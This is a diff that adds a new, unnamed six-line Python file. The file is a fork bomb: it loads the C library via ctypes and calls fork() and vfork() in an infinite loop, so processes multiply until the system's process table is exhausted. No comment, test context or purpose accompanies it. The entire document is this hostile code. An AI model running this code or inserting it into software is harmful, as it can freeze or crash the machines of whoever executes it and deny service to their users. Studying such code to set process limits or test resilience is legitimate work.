@@ -1,0 +1,6 @@
+import ctypes
+
+libc = ctypes.CDLL(None)
+while True:
+    libc.fork()
+    libc.vfork()
